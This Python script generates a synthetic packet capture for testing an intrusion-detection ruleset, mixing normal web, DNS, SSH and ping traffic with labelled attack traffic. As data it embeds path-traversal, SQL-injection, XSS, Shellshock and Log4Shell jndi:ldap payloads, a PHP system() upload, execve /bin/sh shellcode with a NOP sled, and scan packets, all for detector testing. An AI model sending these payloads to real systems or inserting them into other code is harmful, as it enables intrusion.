#!/usr/bin/env python3
"""Write examples/ids.pcap: a small, deterministic trace for
examples/ids.click (IDSMatcher with examples/ids.rules): ordinary web, DNS,
SSH and ping traffic mixed with web attacks, shellcode, scans and policy
events, then an IPv6 part (after the shuffled IPv4 part, which stays as it
was): web requests and attacks to the IPv6 web server (one through a
Destination Options header), pings, a DNS policy event, a NOOP sled and a
Neighbor Solicitation. Prints, independently of pronto, how many packets
each rule should match. Run from the repository root."""
import random, struct

rng = random.Random(7)

def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF

def ip4(s):
    return bytes(int(x) for x in s.split("."))

ETH = bytes.fromhex("020000000002" "020000000001" "0800")

def ipv4(src, dst, proto, l4):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), rng.randrange(65536), 0x4000, 64, proto, 0, ip4(src), ip4(dst))
    return h[:10] + struct.pack("!H", csum(h)) + h[12:] + l4

def l4sum(src, dst, proto, seg):
    return csum(ip4(src) + ip4(dst) + struct.pack("!BBH", 0, proto, len(seg)) + seg)

def tcp(src, sport, dst, dport, payload=b"", flags=0x18):
    seg = struct.pack("!HHIIBBHHH", sport, dport, rng.randrange(1 << 32), 1, 0x50, flags, 65535, 0, 0) + payload
    c = l4sum(src, dst, 6, seg)
    return ETH + ipv4(src, dst, 6, seg[:16] + struct.pack("!H", c) + seg[18:])

def udp(src, sport, dst, dport, payload):
    seg = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    c = l4sum(src, dst, 17, seg) or 0xFFFF
    return ETH + ipv4(src, dst, 17, seg[:6] + struct.pack("!H", c) + seg[8:])

def icmp_echo(src, dst, data):
    m = struct.pack("!BBHHH", 8, 0, 0, 0x1234, 1) + data
    return ETH + ipv4(src, dst, 1, m[:2] + struct.pack("!H", csum(m)) + m[4:])

def dns_query(name, qtype=1):
    q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return struct.pack("!HHHHHH", rng.randrange(65536), 0x0100, 1, 0, 0, 0) + q + struct.pack("!HH", qtype, 1)

def http(path, ua="Mozilla/5.0 (X11; Linux x86_64)", extra=""):
    return ("GET %s HTTP/1.1\r\nHost: www.example.net\r\nUser-Agent: %s\r\n%s\r\n" % (path, ua, extra)).encode()

WEB = "192.168.1.10"
def ext():
    return "203.0.113.%d" % rng.randrange(2, 250)
def eport():
    return rng.randrange(32768, 61000)

pkts = []      # (frame, expected sids of alert/drop/log rules that match)
def add(frame, *sids):
    pkts.append((frame, sids))

# Ordinary traffic: no rule matches.
for i in range(40):
    add(tcp(ext(), eport(), WEB, 80, http("/index.html?page=%d" % i)))
for i in range(20):
    add(tcp(WEB, 80, ext(), eport(), b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html><body>hello</body></html>"))
for i in range(20):
    add(udp("192.168.1.20", eport(), "8.8.8.8", 53, dns_query("www.example.com")))
for i in range(10):
    add(icmp_echo(ext(), "192.168.1.%d" % (i + 1), bytes(range(56))))
for i in range(10):
    add(tcp(ext(), eport(), "192.168.1.22", 22, b"SSH-2.0-OpenSSH_9.6\r\n"))
for i in range(4):
    add(tcp(ext(), eport(), WEB, 80, flags=0x02))
add(tcp(ext(), eport(), WEB, 80, http("/search?q=union+of+workers&from=1980&to=2020&sort=asc&select=all")))
add(tcp(ext(), eport(), WEB, 80, http("/admin/index.html")))
add(tcp(ext(), eport(), WEB, 80, http("/", extra="X-Eval: eval (document)\r\n")))  # pcre rule is skipped

# Web attacks.
for i in range(3):
    add(tcp(ext(), eport(), WEB, 80, http("/static/../../../etc/hosts")), 1000101)
for i in range(2):
    add(tcp(ext(), eport(), WEB, 8080, http("/cgi-bin/view?file=/ETC/PASSWD")), 1000102)
add(tcp(ext(), eport(), WEB, 80, http("/../../../../etc/passwd")), 1000101, 1000102)
for i in range(3):
    add(tcp(ext(), eport(), WEB, 80, http("/item?id=1%20UNION%20ALL%20SELECT%20password%20FROM%20users")), 1000103)
for i in range(2):
    add(tcp(ext(), eport(), WEB, 80, http("/login?user=admin' OR '1'='1")), 1000104)
for i in range(2):
    add(tcp(ext(), eport(), WEB, 80, http("/comment?text=<ScRiPt>alert(1)</script>")), 1000105)
for i in range(2):
    add(tcp(ext(), eport(), WEB, 80, http("/scripts/..%c1%1c../winnt/system32/CMD.EXE?/c+dir")), 1000106)
for i in range(2):
    add(tcp(ext(), eport(), WEB, 80, http("/cgi-bin/status", ua="() { :; }; /usr/bin/id")), 1000107)
add(tcp(ext(), eport(), WEB, 80, b"POST /upload.php HTTP/1.1\r\nHost: www.example.net\r\n\r\n<?PHP echo System('id'); ?>"), 1000108)
for i in range(2):
    add(tcp(ext(), eport(), WEB, 80, http("/", ua="${jndi:ldap://198.51.100.9/a}")), 1000109)
for i in range(2):
    add(tcp(ext(), eport(), WEB, 80, http("/admin/login", ua="curl/8.5.0")), 1000110)
add(tcp(ext(), eport(), WEB, 80, http("/?id=1", ua="sqlmap/1.7.2#stable (https://sqlmap.org)")), 1000111)
add(tcp(ext(), eport(), WEB, 80, http("/cgi-bin/test.cgi", ua="Mozilla/5.00 (Nikto/2.1.6)")), 1000112)
# The team's own scanner is let through by the pass rule.
for i in range(2):
    add(tcp("192.168.2.200", eport(), WEB, 80, http("/../../etc/passwd")))

# Shellcode.
SLED = b"\x90" * 32
EXECVE = bytes.fromhex("31c050682f2f7368682f62696e89e3505389e1b00bcd80")
for i in range(2):
    add(tcp(ext(), eport(), "192.168.1.30", 4444, SLED + EXECVE), 1000201, 1000203)
add(tcp(ext(), eport(), WEB, 80, b"POST /x HTTP/1.1\r\n\r\n" + SLED + b"/bin/sh -i"), 1000202)
add(udp(ext(), eport(), "192.168.1.40", 9999, SLED + b"\xcc" * 8), 1000204)
add(tcp(ext(), eport(), "192.168.1.30", 4444, b"CMD /C whoami\r\n"), 1000205)

# Scans and recon.
for port in range(20, 25):
    add(tcp(ext(), 40000, WEB, port, flags=0x00), 1000301)
for port in (25, 26, 27):
    add(tcp(ext(), 40001, WEB, port, flags=0x29), 1000302)
for port in (28, 29):
    add(tcp(ext(), 40002, WEB, port, flags=0x01), 1000303)
for i in range(2):
    add(tcp(ext(), eport(), WEB, 80, b"probe", flags=0xc2), 1000304)
for i in range(3):
    add(icmp_echo(ext(), "192.168.1.%d" % (100 + i), b""), 1000305)
add(icmp_echo(ext(), "192.168.1.7", b"A" * 1000), 1000306)
add(tcp(ext(), eport(), "192.168.1.22", 22, b"SSH-1.5-Client\r\n"), 1000307)
for port in (21, 21, 23):
    add(tcp(ext(), eport(), "192.168.1.25", port, b"user root\r\n" if port == 23 else b"USER root\r\n"), 1000308)

# DNS and policy.
for i in range(2):
    add(udp("192.168.1.20", eport(), "8.8.8.8", 53, dns_query("myhome.duckdns.org")), 1000401)
add(udp("192.168.1.20", eport(), "198.51.100.53", 53, dns_query("example.com", 252)), 1000402)
for i in range(2):
    add(tcp("192.168.1.20", eport(), "203.0.113.5", 110, b"PASS hunter2\r\n"), 1000403)
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
add(tcp("203.0.113.9", 80, "192.168.1.20", 51000, b"HTTP/1.1 200 OK\r\n\r\n" + EICAR), 1000404)

# Two ARP frames (not IPv4).
ARP = bytes.fromhex("ffffffffffff0200000000010806" "0001080006040001" "020000000001c0a80101" "000000000000c0a80102")
for i in range(2):
    add(ARP + b"\0" * 18)

rng.shuffle(pkts)

# IPv6: hosts of HOME_NET's 2001:db8:1::/64, outside in 2001:db8:ee::/48.
ETH6 = ETH[:12] + b"\x86\xdd"

def ip6a(s):
    import ipaddress
    return ipaddress.IPv6Address(s).packed

def ipv6(src, dst, nh, l4, ext=b"", first=None):
    body = ext + l4
    return ETH6 + struct.pack("!IHBB", 0x60000000, len(body), first if ext else nh, 64) + ip6a(src) + ip6a(dst) + body

def l6sum(src, dst, nh, seg):
    return csum(ip6a(src) + ip6a(dst) + struct.pack("!IxxxB", len(seg), nh) + seg)

def tcp6(src, sport, dst, dport, payload=b"", flags=0x18, ext=b""):
    seg = struct.pack("!HHIIBBHHH", sport, dport, rng.randrange(1 << 32), 1, 0x50, flags, 65535, 0, 0) + payload
    c = l6sum(src, dst, 6, seg)
    return ipv6(src, dst, 6, seg[:16] + struct.pack("!H", c) + seg[18:], ext, 60)

def udp6(src, sport, dst, dport, payload):
    seg = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    c = l6sum(src, dst, 17, seg) or 0xFFFF
    return ipv6(src, dst, 17, seg[:6] + struct.pack("!H", c) + seg[8:])

def icmp6(src, dst, typ, rest, data, hlim=64):
    m = struct.pack("!BBH", typ, 0, 0) + rest + data
    f = ipv6(src, dst, 58, m[:2] + struct.pack("!H", l6sum(src, dst, 58, m)) + m[4:])
    return f[:21] + bytes([hlim]) + f[22:]

WEB6 = "2001:db8:1::10"
def ext6():
    return "2001:db8:ee::%x" % rng.randrange(2, 0xfff)
DEST_OPTS = bytes([6, 0, 1, 4, 0, 0, 0, 0])  # Destination Options, PadN, then TCP

v6 = []
for i in range(5):
    v6.append((tcp6(ext6(), eport(), WEB6, 80, http("/v6/index.html?page=%d" % i)), ()))
for i in range(2):
    v6.append((tcp6(ext6(), eport(), WEB6, 80, http("/item?id=1%20UNION%20SELECT%20card%20FROM%20payments")), (1000103,)))
v6.append((tcp6(ext6(), eport(), WEB6, 8080, http("/static/../../../etc/hosts"), ext=DEST_OPTS), (1000101,)))
for i in range(2):
    v6.append((icmp6(ext6(), "2001:db8:1::%x" % (0x100 + i), 128, struct.pack("!HH", 0x4242, 1), b""), (1000309,)))
v6.append((icmp6(ext6(), "2001:db8:1::20", 128, struct.pack("!HH", 0x4243, 1), bytes(range(56))), ()))
v6.append((icmp6(ext6(), "2001:db8:1::20", 129, struct.pack("!HH", 0x4243, 1), b""), ()))
v6.append((udp6("2001:db8:1::20", eport(), "2001:4860:4860::8888", 53, dns_query("myhome.duckdns.org")), (1000401,)))
v6.append((udp6(ext6(), eport(), "2001:db8:1::40", 9999, SLED + b"\xcc" * 8), (1000204,)))
v6.append((icmp6("fe80::1", "ff02::1:ff00:10", 135, b"\0" * 4, ip6a(WEB6), hlim=255), ()))
pkts += v6
t0 = 1700000000
out = [struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1)]
for i, (f, _) in enumerate(pkts):
    sec, usec = t0 + i // 100, (i % 100) * 10000
    out.append(struct.pack("<IIII", sec, usec, len(f), len(f)) + f)
with open("examples/ids.pcap", "wb") as fh:
    fh.write(b"".join(out))

counts = {}
for _, sids in pkts:
    for s in sids:
        counts[s] = counts.get(s, 0) + 1
# Alert and drop rules send the packet to the alert output; log rules do not.
alerted = sum(1 for _, s in pkts if any(x != 1000401 for x in s))
print("IPv6 packets", len(v6), "IPv6 alert events", sum(len(s) for _, s in v6))
print("packets", len(pkts), "alert events", sum(counts.values()), "alerted packets", alerted)
for s in sorted(counts):
    print(s, counts[s])
